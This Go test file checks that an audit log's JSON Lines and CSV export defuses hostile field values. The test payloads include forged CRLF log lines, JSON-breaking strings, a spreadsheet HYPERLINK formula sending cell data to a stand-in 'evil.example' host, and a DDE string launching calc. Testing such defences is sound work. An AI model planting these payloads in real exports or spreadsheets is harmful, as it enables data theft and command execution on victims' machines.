package audit_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/guardhq/guard/audit"
	"github.com/guardhq/guard/store/memstore"
)

// The AU-3 payloads: a forged log line, a CRLF NameID, JSON-breaking quotes
// and a spreadsheet formula.
const (
	forgedLine = "alice\r\n2026-01-01T00:00:00Z login_success admin"
	crlfNameID = "bob@example.com\r\n\r\n<Assertion>"
	jsonBreak  = `x"}` + "\n" + `{"id":"forged","action":"login.succeeded"}`
	formula    = `=HYPERLINK("http://evil.example/?"&A1,"click")`
)

func hostileEvent(tenant string) audit.Event {
	e := loginEvent(tenant)
	e.Actor.Email = forgedLine
	e.Actor.ID = crlfNameID
	e.Target = jsonBreak
	e.UserAgent = formula
	e.Reason = "-2+3"
	e.IP = "@SUM(1)"
	e.Meta = map[string]string{"nameid": crlfNameID, "q": `"'\`, "cmd": "+cmd|' /C calc'!A0", "\u2028": "\u2029"}
	return e
}

func exportString(t *testing.T, l *audit.Log, tenant string, q audit.Query, f audit.Format) string {
	t.Helper()
	var buf bytes.Buffer
	if err := l.Export(context.Background(), tenant, q, &buf, f); err != nil {
		t.Fatalf("Export: %v", err)
	}
	return buf.String()
}

// readJSONLines decodes an export, one event per line, failing t on any
// line that is not exactly one JSON object with exactly the documented keys.
func readJSONLines(t *testing.T, out string) []map[string]any {
	t.Helper()
	var rows []map[string]any
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		line := sc.Bytes()
		if bytes.ContainsAny(line, "\r\u2028\u2029") {
			t.Errorf("line holds a raw line break: %q", line)
		}
		dec := json.NewDecoder(bytes.NewReader(line))
		dec.UseNumber()
		var row map[string]any
		if err := dec.Decode(&row); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		if dec.More() {
			t.Fatalf("line %q holds more than one value", line)
		}
		keys := slices.Sorted(maps.Keys(row))
		if want := slices.Sorted(slices.Values(audit.ExportColumns)); !slices.Equal(keys, want) {
			t.Fatalf("keys %v, want %v", keys, want)
		}
		rows = append(rows, row)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return rows
}

// readCSV parses an export and checks its header.
func readCSV(t *testing.T, out string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(out))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("reading CSV: %v", err)
	}
	if len(recs) == 0 || !slices.Equal(recs[0], audit.ExportColumns) {
		t.Fatalf("header %v, want %v", recs[:min(1, len(recs))], audit.ExportColumns)
	}
	return recs[1:]
}

// wantCell is the documented CSV cell for value v, as encoding/csv reads
// it back: a leading formula character gets an apostrophe, so does each
// ';', tab, CR or LF followed by '=', '+', '-' or '@' (with or without
// double quotes between) after it, and CRLF inside a quoted cell reads as
// LF.
func wantCell(v string) string {
	if v != "" && strings.ContainsRune("=+-@\t\r\n", rune(v[0])) {
		v = "'" + v
	}
	v = innerFormula.ReplaceAllString(v, "$1'$2")
	return strings.ReplaceAll(v, "\r\n", "\n")
}

// innerFormula is a cell start inside a value, for a spreadsheet that
// splits at ';', tabs or line breaks, followed by a formula character.
var innerFormula = regexp.MustCompile(`([;\t\r\n])("*[=+\-@])`)

// wantRow is the documented export form of e.
func wantRow(e audit.Event) []string {
	meta := e.Meta
	if meta == nil {
		meta = map[string]string{}
	}
	mj, _ := json.Marshal(meta)
	return []string{
		e.ID, e.Tenant, strconv.FormatUint(e.Seq, 10), e.Time.UTC().Format(time.RFC3339Nano),
		string(e.Actor.Kind), e.Actor.ID, e.Actor.Email, string(e.Action), e.Target, e.IP,
		e.UserAgent, string(e.Outcome), e.Reason, string(mj),
		hex.EncodeToString(e.PrevMAC), hex.EncodeToString(e.MAC),
	}
}

func TestExportJSONLines(t *testing.T) {
	l := newLog(t, memstore.NewAudit())
	want := []audit.Event{
		record(t, l, hostileEvent("acme")),
		record(t, l, loginEvent("acme")),
		record(t, l, audit.Event{Tenant: "acme", Action: audit.SessionExpired}), // empty fields, nil Meta
	}
	rows := readJSONLines(t, exportString(t, l, "acme", audit.Query{}, audit.JSONLines))
	if len(rows) != len(want) {
		t.Fatalf("%d lines for %d events", len(rows), len(want))
	}
	for i, row := range rows {
		w := wantRow(want[i])
		for j, col := range audit.ExportColumns {
			var got string
			switch v := row[col].(type) {
			case string:
				got = v
			case json.Number:
				if col != "seq" {
					t.Errorf("%s is a number", col)
				}
				got = v.String()
			case map[string]any:
				if col != "meta" {
					t.Errorf("%s is an object", col)
				}
				b, _ := json.Marshal(v)
				got = string(b)
			default:
				t.Errorf("%s has type %T", col, v)
			}
			if col == "meta" { // compare as maps: encoding may order or escape differently
				var a, b map[string]string
				json.Unmarshal([]byte(got), &a)
				json.Unmarshal([]byte(w[j]), &b)
				if !maps.Equal(a, b) || a == nil {
					t.Errorf("event %d meta = %q, want %q", i, got, w[j])
				}
				continue
			}
			if got != w[j] {
				t.Errorf("event %d %s = %q, want %q", i, col, got, w[j])
			}
		}
	}
}

func TestExportJSONLinesGolden(t *testing.T) {
	e := audit.Event{
		ID: "0f", Tenant: "acme", Seq: 1, Time: time.Date(2026, 1, 2, 3, 4, 5, 600000000, time.UTC),
		Actor:  audit.Actor{Kind: audit.ActorUser, ID: "u1", Email: forgedLine},
		Action: audit.LoginFailed, Target: jsonBreak, IP: "192.0.2.1", UserAgent: "<b>&",
		Outcome: audit.Failure, Reason: "bad_password", Meta: map[string]string{"b": "2", "a": "\u2028"},
		MAC: []byte{0xcd, 0xef},
	}
	s := memstore.NewAudit()
	if err := s.Append(context.Background(), "acme", []audit.Event{e}); err != nil {
		t.Fatal(err)
	}
	got := exportString(t, newLog(t, s), "acme", audit.Query{}, audit.JSONLines)
	const want = `{"id":"0f","tenant":"acme","seq":1,"time":"2026-01-02T03:04:05.6Z","actor_kind":"user","actor_id":"u1",` +
		`"actor_email":"alice\r\n2026-01-01T00:00:00Z login_success admin","action":"login.failed",` +
		`"target":"x\"}\n{\"id\":\"forged\",\"action\":\"login.succeeded\"}","ip":"192.0.2.1",` +
		`"user_agent":"\u003cb\u003e\u0026","outcome":"failure","reason":"bad_password",` +
		`"meta":{"a":"\u2028","b":"2"},"prev_mac":"","mac":"cdef"}` + "\n"
	if got != want {
		t.Errorf("export =\n%s\nwant\n%s", got, want)
	}
}

func TestExportCSV(t *testing.T) {
	l := newLog(t, memstore.NewAudit())
	want := []audit.Event{
		record(t, l, hostileEvent("acme")),
		record(t, l, loginEvent("acme")),
		record(t, l, audit.Event{Tenant: "acme", Action: audit.SessionExpired}),
	}
	out := exportString(t, l, "acme", audit.Query{}, audit.CSV)
	recs := readCSV(t, out)
	if len(recs) != len(want) {
		t.Fatalf("%d records for %d events:\n%s", len(recs), len(want), out)
	}
	for i, rec := range recs {
		w := wantRow(want[i])
		for j, cell := range rec {
			if strings.ContainsRune("=+-@\t\r\n", rune(firstByte(cell))) {
				t.Errorf("event %d %s starts with a formula character: %q", i, audit.ExportColumns[j], cell)
			}
			if want := wantCell(w[j]); cell != want {
				t.Errorf("event %d %s = %q, want %q", i, audit.ExportColumns[j], cell, want)
			}
		}
	}
	// The hostile values are defused.
	h := recs[0]
	for col, want := range map[int]string{10: "'" + formula, 12: "'-2+3", 9: "'@SUM(1)", 6: strings.ReplaceAll(forgedLine, "\r\n", "\n")} {
		if h[col] != want {
			t.Errorf("%s = %q, want %q", audit.ExportColumns[col], h[col], want)
		}
	}
}

func firstByte(s string) byte {
	if s == "" {
		return 0
	}
	return s[0]
}

func TestCSVFormulaPrefix(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@x", "'@x"},
		{"\tx", "'\tx"}, {"\rx", "'\rx"}, {"\nx", "'\nx"},
		{"a=1", "a=1"}, {"", ""}, {"'=x", "'=x"}, {" =x", " =x"},
		// A spreadsheet with ';' as list separator, or splitting at tabs
		// or line breaks, starts a cell after each of them (CRLF inside
		// a cell reads back as LF).
		{"a;=1", "a;'=1"}, {"a;+1;-1", "a;'+1;'-1"}, {`a;"=1"`, `a;'"=1"`}, {`a;""@x`, `a;'""@x`},
		{"a\t=1", "a\t'=1"}, {"a\n-1", "a\n'-1"}, {"a\r\n@x", "a\n'@x"}, {"\t=x", "'\t'=x"},
		{"a;;=1", "a;;'=1"}, {"a;b", "a;b"}, {"a; =1", "a; =1"}, {"a;'=1", "a;'=1"}, {"a;", "a;"},
	} {
		s := memstore.NewAudit()
		l := newLog(t, s)
		e := loginEvent("acme")
		e.Target = tt.in
		record(t, l, e)
		recs := readCSV(t, exportString(t, l, "acme", audit.Query{}, audit.CSV))
		if got := recs[0][8]; got != tt.want {
			t.Errorf("target %q exported as %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestExportAllPagesInOrder(t *testing.T) {
	s := memstore.NewAudit()
	c := newClock()
	l := newLog(t, s, withClock(c), func(cfg *audit.Config) { cfg.MaxBatch = 1000 })
	const n = 2300 // more than two store pages
	for i := range n {
		e := loginEvent("acme")
		if i%2 == 1 {
			e.Outcome = audit.Failure
		}
		record(t, l, e)
		c.Add(time.Second)
	}
	record(t, l, loginEvent("other"))
	// seqsOf decodes only what this test checks; TestExportJSONLines checks
	// the rest of the schema.
	seqsOf := func(t *testing.T, out string) []uint64 {
		var seqs []uint64
		dec := json.NewDecoder(strings.NewReader(out))
		for dec.More() {
			var row struct {
				Seq    uint64 `json:"seq"`
				Tenant string `json:"tenant"`
			}
			if err := dec.Decode(&row); err != nil {
				t.Fatal(err)
			}
			if row.Tenant != "acme" {
				t.Fatalf("exported an event of tenant %q", row.Tenant)
			}
			seqs = append(seqs, row.Seq)
		}
		if lines := strings.Count(out, "\n"); lines != len(seqs) {
			t.Fatalf("%d lines for %d events", lines, len(seqs))
		}
		return seqs
	}
	tests := []struct {
		name        string
		q           audit.Query
		first, last uint64
		count       int
	}{
		{"All", audit.Query{Limit: 5}, 1, n, n},
		{"Desc", audit.Query{Desc: true}, n, 1, n},
		{"After", audit.Query{After: 2000}, 2001, n, n - 2000},
		{"DescAfter", audit.Query{After: 1001, Desc: true}, 1000, 1, 1000},
		{"Filtered", audit.Query{Outcome: audit.Failure}, 2, n, n / 2},
		{"TimeRange", audit.Query{From: chainTimeOf(newClock().Now()).Add(100 * time.Second), To: chainTimeOf(newClock().Now()).Add(1300 * time.Second)}, 101, 1300, 1200},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := seqsOf(t, exportString(t, l, "acme", tt.q, audit.JSONLines))
			if len(got) != tt.count || got[0] != tt.first || got[len(got)-1] != tt.last {
				t.Fatalf("exported %d events %d..%d, want %d, %d..%d", len(got), got[0], got[len(got)-1], tt.count, tt.first, tt.last)
			}
			for i := 1; i < len(got); i++ {
				if (got[i] > got[i-1]) == tt.q.Desc {
					t.Fatalf("out of order at %d: %d after %d", i, got[i], got[i-1])
				}
			}
			if recs := readCSV(t, exportString(t, l, "acme", tt.q, audit.CSV)); len(recs) != tt.count {
				t.Errorf("CSV has %d records, want %d", len(recs), tt.count)
			}
		})
	}
}

func TestExportEmpty(t *testing.T) {
	l := newLog(t, memstore.NewAudit())
	if out := exportString(t, l, "acme", audit.Query{}, audit.JSONLines); out != "" {
		t.Errorf("JSON Lines of no events = %q, want empty", out)
	}
	if recs := readCSV(t, exportString(t, l, "acme", audit.Query{}, audit.CSV)); len(recs) != 0 {
		t.Errorf("CSV of no events has %d records", len(recs))
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errBoom }

func TestExportErrors(t *testing.T) {
	s := &hookStore{Store: memstore.NewAudit()}
	l := newLog(t, s)
	recordN(t, l, "acme", 3)
	ctx := context.Background()
	var ie *audit.InputError
	if err := l.Export(ctx, "acme", audit.Query{}, io.Discard, audit.Format(9)); !errors.As(err, &ie) || ie.Field != "format" {
		t.Errorf("unknown format: %v, want *InputError", err)
	}
	if err := l.Export(ctx, "", audit.Query{}, io.Discard, audit.CSV); !errors.As(err, &ie) {
		t.Errorf("no tenant: %v, want *InputError", err)
	}
	for _, f := range []audit.Format{audit.JSONLines, audit.CSV} {
		if err := l.Export(ctx, "acme", audit.Query{}, failWriter{}, f); !errors.Is(err, errBoom) {
			t.Errorf("format %d, failing writer: %v, want the write error", f, err)
		}
	}
	s.onQuery = func(audit.Query, []audit.Event) ([]audit.Event, error) { return nil, errBoom }
	if err := l.Export(ctx, "acme", audit.Query{}, io.Discard, audit.JSONLines); !errors.Is(err, errBoom) {
		t.Errorf("store error: %v, want it wrapped", err)
	}
}

// FuzzExport checks AU-3 for arbitrary field contents: every recorded event
// is exactly one JSON line and one CSV record, and its values come back.
func FuzzExport(f *testing.F) {
	f.Add(forgedLine, crlfNameID, jsonBreak, formula, "k", "v")
	f.Add("\u2028", "\x00", `"`, "\t=", "\r", "\n")
	f.Add("", "", "", "", "", "")
	f.Fuzz(func(t *testing.T, email, target, ua, reason, mk, mv string) {
		l := newLog(t, memstore.NewAudit())
		e := loginEvent("acme")
		e.Actor.Email, e.Target, e.UserAgent, e.Reason = email, target, ua, reason
		e.Meta = map[string]string{mk: mv}
		got, err := l.Record(context.Background(), e)
		if err != nil {
			var ie *audit.InputError
			if !errors.As(err, &ie) {
				t.Fatalf("Record: %v", err)
			}
			valid := mk != ""
			for _, v := range []string{email, target, ua, reason, mk, mv} {
				valid = valid && utf8.ValidString(v) && len(v) <= audit.MaxFieldSize
			}
			if valid {
				t.Fatalf("valid event refused: %v", err)
			}
			return
		}
		got2 := record(t, l, loginEvent("acme"))
		w := [][]string{wantRow(got), wantRow(got2)}

		rows := readJSONLines(t, exportString(t, l, "acme", audit.Query{}, audit.JSONLines))
		if len(rows) != 2 {
			t.Fatalf("%d JSON lines for 2 events", len(rows))
		}
		for i, row := range rows {
			for j, col := range audit.ExportColumns {
				if s, ok := row[col].(string); ok && s != w[i][j] {
					t.Errorf("JSON %s = %q, want %q", col, s, w[i][j])
				}
			}
			var meta map[string]string
			b, _ := json.Marshal(row["meta"])
			if err := json.Unmarshal(b, &meta); err != nil || (i == 0 && meta[mk] != mv) {
				t.Errorf("JSON meta = %v, want %q: %q", row["meta"], mk, mv)
			}
		}

		recs := readCSV(t, exportString(t, l, "acme", audit.Query{}, audit.CSV))
		if len(recs) != 2 {
			t.Fatalf("%d CSV records for 2 events", len(recs))
		}
		for i, rec := range recs {
			for j, cell := range rec {
				if want := wantCell(w[i][j]); cell != want {
					t.Errorf("CSV %s = %q, want %q", audit.ExportColumns[j], cell, want)
				}
			}
		}
	})
}
